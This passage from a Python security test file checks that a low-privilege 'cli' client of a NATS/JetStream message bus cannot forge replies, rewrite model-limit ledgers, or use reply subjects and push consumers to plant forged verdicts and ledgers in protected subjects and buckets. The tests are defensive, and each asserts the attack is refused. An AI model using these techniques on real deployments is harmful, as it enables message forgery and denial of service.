                await asyncio.sleep(0)

        forged = genuine_reads = 0
        try:
            await attacker.subscribe("_INBOX.>", cb=sniffed)
            await attacker.subscribe("_INBOX_finalization.>", cb=sniffed)
            await attacker.flush()
            js = victim.jetstream()
            forger = asyncio.ensure_future(forge())
            for _ in range(300):
                try:
                    msg = await js.get_last_msg(events.STREAM, genuine.subject, direct=True)
                except Exception:  # noqa: BLE001 - a mangled reply: not a forgery accepted
                    continue
                if msg.data == forged_body:
                    forged += 1
                else:
                    genuine_reads += 1
            stop.set()
            await forger
        finally:
            await attacker.close()
            await victim.close()
        return forged, genuine_reads, len(seen), errors

    forged, genuine_reads, sniffed, errors = sync(attack())
    assert forged == 0, f"{forged} of 300 reads answered by the cli client"
    assert sniffed == 0, "the cli client read another role's replies"
    assert genuine_reads == 300
    assert any("permissions violation" in e.lower() for e in errors)


def test_cli_cannot_rewrite_a_model_limit_ledger(tstack: Stack) -> None:
    """The deployment's model limits live in the `vb_model_limits` bucket, written by the stage
    services that call models. The `cli` role could publish to it: as an attacker, take the
    ledger a service wrote while it holds the only slot of a model (`max_concurrency: 1`), write
    it back with no holders, and see whether another service then gets a second slot (two calls
    in flight for a limit of one, the provider's 429s)."""
    from shared.core.events import ModelSpec
    from shared.runtime.call_limits import limit_key
    from shared.runtime.ledger import decode_ledger, encode_ledger
    from shared.runtime.limits import deployment_limiter

    model = ModelSpec(model_name="openai/one-slot", api_base="http://gpu-box:8000/v1", max_concurrency=1)
    subject = f"$KV.{bus_auth.LIMITS_BUCKET}.{limit_key(model)}"

    async def main() -> tuple[bool, list[str]]:
        errors: list[str] = []
        gen_nc = await _connect(_as(tstack, "generation"), errors)
        par_nc = await _connect(_as(tstack, "parsing"), errors)
        cli_nc = await _connect(_as(tstack, "cli"), errors)
        gen, par = deployment_limiter(gen_nc, "generation@test"), deployment_limiter(par_nc, "parsing@test")
        try:
            lease = await gen.acquire(model)  # the one slot, held
            await asyncio.sleep(0.3)
            held = await cli_nc.jetstream().get_last_msg(f"KV_{bus_auth.LIMITS_BUCKET}", subject)
            ledger = decode_ledger(held.data)
            assert ledger.holders, "the holder's lease is in the ledger"
            emptied = msgspec.structs.replace(ledger, holders={})
            for _ in range(5):  # the holder writes its ledger back when it changes: write it again
                await cli_nc.publish(subject, encode_ledger(emptied))
                await cli_nc.flush()
                await asyncio.sleep(0.1)
            try:
                second = await asyncio.wait_for(par.acquire(model), 2.0)
            except TimeoutError:
                got_second = False
            else:
                got_second = True
                par.release(second)
            gen.release(lease)
            return got_second, errors
        finally:
            await gen.close()
            await par.close()
            for nc in (gen_nc, par_nc, cli_nc):
                await nc.close()

    got_second, errors = sync(main())
    assert not got_second, "a second call went out for a limit of one after the cli client rewrote the ledger"
    assert any("permissions violation" in e.lower() for e in errors), errors


def test_a_query_reply_cannot_be_sent_into_the_event_stream(tstack: Stack) -> None:
    """The projector answers `veribus.query` on the reply subject the request names. With
    `allow_responses` that was any subject at all (a reply permission overrides the server's deny
    lists): a `cli` client asked with `vb.result.finalized.<run>.<id>` as its reply subject and the
    projector, answering, stored a `result.finalized` event only the finalizer may publish."""
    run_id, rid = "replyto-run", "abcdefabcdef0123"
    target = events.subject(events.RESULT_FINALIZED, run_id, rid)

    async def attack() -> list[str]:
        errors: list[str] = []
        nc = await _connect(_as(tstack, "cli"), errors)
        try:
            await nc.publish(events.QUERY_SUBJECT, b'{"sql": "SELECT 1 AS x"}', reply=target)
            await nc.flush()
            await asyncio.sleep(1.0)
            # and an ordinary query still gets its answer
            reply = await nc.request(events.QUERY_SUBJECT, b'{"sql": "SELECT 1 AS x"}', timeout=10)
            assert json.loads(reply.data)["rows"] == [[1]]
        finally:
            await nc.close()
        return errors

    sync(attack())
    assert not sync(_stored(tstack, target)), "the projector's reply was stored as a result.finalized event"


def test_cli_cannot_deliver_the_stream_into_a_verdict_subject(tstack: Stack) -> None:
    """`cli` may make consumers of its own (to read the stream). A push consumer delivers to the
    subject its creator names, published by the server, not under the creator's permissions: as an
    attacker, store a forged `result.finalized` envelope under a subject `cli` may publish
    (`vb.run.cancelled.R.X`), and have a consumer of it deliver to `vb.result.finalized.R.X`,
    which the stream captures, or to a service's reply inbox. The server refuses the cycle, and
    nothing lands on the verdict subject."""
    from nats.js.api import ConsumerConfig  # noqa: PLC0415

    run_id, rid = "deliver-run", "0123456789abcdef"
    target = events.subject(events.RESULT_FINALIZED, run_id, rid)
    forged = _forged_result(run_id, rid)
    carrier = events.subject(events.RUN_CANCELLED, run_id, rid)
    refused: list[str] = []  # the deliver subjects the server would not take

    async def attack() -> None:
        nc = await _connect(_as(tstack, "cli"), [])
        try:
            js = nc.jetstream(timeout=3)
            await js.publish(carrier, events.encode(forged))
            for deliver in (target, "_INBOX_finalization.x"):
                try:
                    info = await js.add_consumer(events.STREAM, ConsumerConfig(
                        filter_subject=carrier, deliver_subject=deliver, inactive_threshold=5.0))
                except Exception:  # noqa: BLE001 - refused
                    refused.append(deliver)
                else:
                    await asyncio.sleep(1.0)
                    await js.delete_consumer(events.STREAM, info.name)
        finally:
            await nc.close()

    sync(attack())
    assert not sync(_stored(tstack, target)), "the stream's own consumer stored a forged verdict"
    assert target in refused


def test_cli_cannot_deliver_the_stream_into_a_bucket(tstack: Stack) -> None:
    """The server refuses a push consumer delivering into its own stream (a cycle), but another
    stream captures what the server delivers as well: as an attacker, store bytes of one's choice
    under a subject `cli` may publish (`vb.run.cancelled.R.X`), and have a consumer of it deliver
    to a key of the shared response cache (a model reply the next `--cache` run reads), of the
    model-limit ledgers or of the spending counters, none of which `cli` may write."""
    from nats.js.api import ConsumerConfig  # noqa: PLC0415

    run_id, rid = "bucket-run", "fedcba9876543210"
    carrier = events.subject(events.RUN_CANCELLED, run_id, rid)
    planted = b'{"text": "{\\"value\\": 0}"}'
    targets = {f"KV_{b}": f"$KV.{b}.planted-by-cli" for b in ("vb_llm_cache_shared", "vb_llm_cache",
                                                              bus_auth.LIMITS_BUCKET, "vb_run_usage", "vb_run_cost")}

    async def buckets() -> None:  # as the services make them on first use: the attack needs them there
        from nats.js.api import KeyValueConfig  # noqa: PLC0415

        nc = await bus.connect(_as(tstack, "admin"))
        try:
            for stream in targets:
                await bus.ensure_kv(nc.jetstream(), KeyValueConfig(bucket=stream.removeprefix("KV_")))
        finally:
            await nc.close()

    async def attack() -> None:
        nc = await _connect(_as(tstack, "cli"), [])
        try:
            js = nc.jetstream(timeout=3)
            await js.publish(carrier, planted)
            for deliver in targets.values():
                try:
                    info = await js.add_consumer(events.STREAM, ConsumerConfig(
                        filter_subject=carrier, deliver_subject=deliver, inactive_threshold=5.0))
                except Exception:  # noqa: BLE001 - refused
                    continue
                await asyncio.sleep(1.0)
                await js.delete_consumer(events.STREAM, info.name)
        finally:
            await nc.close()

    async def planted_in() -> list[str]:
        nc = await bus.connect(_as(tstack, "admin"))
        found = []
        try:
            for stream, subject in targets.items():
                await nc.jetstream().stream_info(stream)  # the bucket is there: its key could have been
                try:
                    await nc.jetstream().get_last_msg(stream, subject)
                    found.append(stream)
                except NotFoundError:
                    pass
        finally:
            await nc.close()
        return found

    sync(buckets())
    sync(attack())
    assert sync(planted_in()) == [], "the stream's own consumer wrote into a bucket cli may not write"


def test_a_forged_ledger_delivered_by_a_consumer_is_not_read_as_the_ledger(tstack: Stack) -> None:
    """`cli` may not write a ledger, but it may make consumers, and a push consumer delivers to any
    subject its creator names: as an attacker, store a ledger of one's own under a subject `cli`
    may publish, and have a consumer deliver it to the subject every service's ledger watch
    listens on (`$KV.vb_model_limits.<key>`). A ledger over its window makes a service give its
    slots back and admit nothing; redelivered (never acked) it would hold a model's calls down
    for as long as the consumer lives. The watch reads only what the bucket itself publishes."""
    from nats.js.api import ConsumerConfig  # noqa: PLC0415

    from shared.core.events import ModelSpec
    from shared.runtime.call_limits import limit_key
    from shared.runtime.ledger import Holder, Ledger, decode_ledger, encode_ledger
    from shared.runtime.limits import deployment_limiter

    model = ModelSpec(model_name="openai/watched", api_base="http://gpu-box:8000/v1", max_concurrency=4)
    key = limit_key(model)
    forged = Ledger(cap=4, window=0.0, holders={"attacker": Holder(n=4, want=4, exp=time.time() + 600)})
    carrier = events.subject(events.RUN_CANCELLED, "ledger-run", "00000000000000ff")

    async def main() -> list[bytes]:
        gen_nc = await bus.connect(_as(tstack, "generation"))
        cli_nc = await _connect(_as(tstack, "cli"), [])
        gen = deployment_limiter(gen_nc, "generation@test")
        taken: list[bytes] = []  # every ledger the service took in through its watch
        on_change = gen._on_change
        gen._on_change = lambda st, data: (taken.append(data), on_change(st, data))  # type: ignore[method-assign]
        try:
            gen.release(await gen.acquire(model))  # the key is watched from here on
            await asyncio.sleep(0.3)
            js = cli_nc.jetstream(timeout=3)
            await js.publish(carrier, encode_ledger(forged))
            info = await js.add_consumer(events.STREAM, ConsumerConfig(
                filter_subject=carrier, deliver_subject=f"$KV.{bus_auth.LIMITS_BUCKET}.{key}", inactive_threshold=5.0))
            await asyncio.sleep(1.0)
            await js.delete_consumer(events.STREAM, info.name)
            return taken
        finally:
            await gen.close()
            await gen_nc.close()
            await cli_nc.close()

    taken = sync(main())
    assert taken, "the service's own writes reach its watch"
    assert not [d for d in taken if "attacker" in decode_ledger(d).holders], \
        "the service took the forged ledger for the bucket's (it then gave back its slots and admitted nothing)"
